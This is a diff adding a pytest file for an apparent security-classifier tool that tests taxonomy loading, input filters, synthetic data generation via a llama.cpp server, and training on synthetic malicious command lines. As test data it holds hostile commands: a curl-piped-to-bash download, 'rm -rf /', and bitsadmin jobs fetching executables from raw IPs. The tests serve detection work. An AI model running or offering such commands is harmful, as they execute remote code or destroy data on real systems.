@@ -1,0 +1,123 @@
+"""Synthetic data: taxonomy, filters on real rows, generation through a real llama.cpp server, and mixing."""
+
+import json
+
+import numpy as np
+import pytest
+
+from smallworld import data as D
+from smallworld import label as L
+from smallworld.errors import SmallworldError
+from smallworld.synth import PLACEHOLDER, SHAPES, _items, load_taxonomy, max_similarity, valid
+from smallworld.tasks import BUILTIN, load_task
+from tests.conftest import cli
+
+
+def test_every_builtin_task_ships_a_taxonomy_with_valid_labels():
+    for name in BUILTIN:
+        task = load_task(name)
+        ents = load_taxonomy(task)
+        assert len(ents) >= 6, name
+        assert {e.label for e in ents} == set(task.labels) or {e.label for e in ents} >= {task.positive}
+        assert len({e.id for e in ents}) == len(ents)
+    ids = {e.id for e in load_taxonomy(load_task("cmdlines"))}
+    assert {"T1003.001", "T1059.001", "T1197"} <= ids  # ATT&CK technique ids
+
+
+def test_user_taxonomy_extends_and_is_checked(tmp_path):
+    task = load_task("urls")
+    good = tmp_path / "more.toml"
+    good.write_text('[[entry]]\nid = "qr-lure"\nname = "QR code lure"\nlabel = "phishing"\nhint = "a URL behind a QR code"\n')
+    ents = load_taxonomy(task, [str(good)])
+    assert "qr-lure" in {e.id for e in ents} and len(ents) == len(load_taxonomy(task)) + 1
+    bad = tmp_path / "bad.toml"
+    bad.write_text('[[entry]]\nid = "x"\nname = "X"\nlabel = "malware"\nhint = "h"\n')
+    with pytest.raises(SmallworldError, match="not one of"):
+        load_taxonomy(task, [str(bad)])
+
+
+def test_validity_and_placeholder_filters_on_real_rows(data_dir):
+    urls = load_task("urls")
+    rows = [r for _, r in zip(range(2000), D.iter_rows(str(data_dir / "urls" / "dev.jsonl.gz")))]
+    e = load_taxonomy(urls)[0]
+    ok = np.mean([valid(urls, r["text"], e) for r in rows])
+    assert ok > 0.95, ok  # real URLs parse
+    assert not valid(urls, "not a url at all", e) and not valid(urls, "http://exa mple.com/x", e)
+    cmd = load_task("cmdlines")
+    ce = [x for x in load_taxonomy(cmd) if x.platform == "linux"][0]
+    assert valid(cmd, "curl -fsSL http://203.0.113.7/x.sh | bash", ce)
+    assert not valid(cmd, "echo 'unterminated", ce) and not valid(cmd, "ls\nrm -rf /", ce)
+    # the documentation placeholders of tldr-pages are exactly what the placeholder filter rejects
+    tldr = [r["text"] for r in D.iter_rows(str(data_dir / "cmdlines" / "dev.jsonl.gz")) if r["source"] == "tldr-pages"]
+    hit = np.mean([bool(PLACEHOLDER.search(t)) for t in tldr])
+    assert hit > 0.2, hit
+    for t in ("http://example.com/login", "powershell -c <payload>", "copy {PATH} x", "Dear [Recipient],"):
+        assert PLACEHOLDER.search(t), t
+    assert not PLACEHOLDER.search("https://login.microsoftonline.com/common/oauth2/authorize")
+
+
+def test_near_duplicates_of_training_data_score_as_not_novel(data_dir):
+    rows = [r["text"] for _, r in zip(range(300), D.iter_rows(str(data_dir / "urls" / "train.jsonl.gz")))]
+    sig = L.minhash_signatures(rows)
+    assert np.allclose(max_similarity(sig[:20], sig), 1.0)  # every row is its own nearest neighbour
+    fresh = L.minhash_signatures(["https://zz-unrelated-host-4471.net/qq/ww/ee?rr=tt"])
+    assert max_similarity(fresh, sig)[0] < 0.5
+
+
+def test_answers_parsed_leniently():
+    assert _items('{"items": ["a b", "c"]}', SHAPES["urls"]) == ["a b", "c"]
+    assert _items('Sure! ```json\n{"items": ["x"]}\n```', SHAPES["urls"]) == ["x"]
+    assert _items('{"items": ["line one\nline two"]}', SHAPES["cmdlines"]) == ["line one\nline two"]  # raw newline
+    assert _items("no json here", SHAPES["urls"]) is None
+    em = _items('{"items": [{"subject": "Invoice  due", "body": "Please pay."}]}', SHAPES["emails"])
+    assert em == ["Subject: Invoice due\nPlease pay."]
+
+
+def test_synth_cli_against_a_real_server(llama_server, tmp_path, data_dir):
+    seed = tmp_path / "seed.jsonl"
+    D.write_jsonl(seed, [r for _, r in zip(range(400), D.iter_rows(str(data_dir / "urls" / "train.jsonl.gz")))])
+    out = tmp_path / "syn.jsonl"
+    args = ["synth", "--task", "urls", "--n", "6", "--entries", "raw-ip,benign-docs", "--teacher", llama_server.url,
+            "--labelled", seed, "--out", out, "--cache", tmp_path / "c.sqlite", "--threshold", "0.2"]
+    r = cli(*args)
+    rep = json.loads((tmp_path / "syn.jsonl.report.json").read_text())
+    assert rep["calls"] >= 2 and rep["usage"]["calls"] >= rep["calls"]
+    assert rep["generated"] == rep["kept"] + sum(rep["dropped"].values())
+    assert set(rep["per_entry"]) == {"raw-ip", "benign-docs"}
+    assert "filter" in r.stdout and "per taxonomy entry" in r.stdout
+    rows = D.read_rows(str(out)) if rep["kept"] else []
+    for row in rows:
+        assert row["source"] in ("synthetic:urls/raw-ip", "synthetic:urls/benign-docs")
+        assert row["label"] == ("phishing" if row["source"].endswith("raw-ip") else "benign")
+        assert valid(load_task("urls"), row["text"], load_taxonomy(load_task("urls"))[0])
+        assert 0 <= row["meta"]["novelty"] <= 1 and row["meta"]["teacher_p"] >= 0.2
+    # everything was paid for once: a rerun is served from the cache
+    cli(*args)
+    assert json.loads((tmp_path / "syn.jsonl.report.json").read_text())["usage"]["calls"] == 0
+
+
+def test_training_takes_synthetic_rows_and_refuses_unmarked_ones(tmp_path, data_dir):
+    train = str(data_dir / "cmdlines" / "train.jsonl.gz")
+    # rows as `smallworld synth` writes them, for a technique the seed lacks (BITS jobs)
+    syn = [{"id": f"syn-{i}", "text": t, "label": "malicious", "source": "synthetic:cmdlines/T1197", "weight": 1.0}
+           for i, t in enumerate([f"bitsadmin /transfer job{i} /download /priority high http://185.22.{i}.9/u.exe "
+                                  f"C:\\Users\\Public\\u{i}.exe" for i in range(30)])]
+    sp = tmp_path / "syn.jsonl"
+    D.write_jsonl(sp, syn)
+    probe = "bitsadmin /transfer upd /download http://91.200.3.4/svc.exe C:\\ProgramData\\svc.exe"
+    scores = {}
+    for name, extra in (("without", []), ("with", ["--synthetic", sp])):
+        out = tmp_path / name
+        cli("train", "--task", "cmdlines", "--labelled", train, "--seed-size", "300", "--teacher", "none",
+            "--out", out, *extra)
+        r = cli("score", out, "-", "--probs", input=probe + "\n")
+        scores[name] = json.loads(r.stdout.splitlines()[0])["probs"]["malicious"]
+        man = json.loads((out / "manifest.json").read_text())
+        assert man["counts"]["synthetic"] == (30 if name == "with" else 0)
+    logit = {k: np.log(v / (1 - v)) for k, v in scores.items()}
+    assert logit["with"] > logit["without"] + 1.0, scores  # the student learned the technique it lacked
+    unmarked = tmp_path / "unmarked.jsonl"
+    D.write_jsonl(unmarked, [dict(r, source="atomic-red-team") for r in syn])
+    r = cli("train", "--task", "cmdlines", "--labelled", train, "--seed-size", "300", "--teacher", "none",
+            "--out", tmp_path / "x", "--synthetic", unmarked, check=False)
+    assert r.returncode != 0 and "synthetic:" in r.stderr
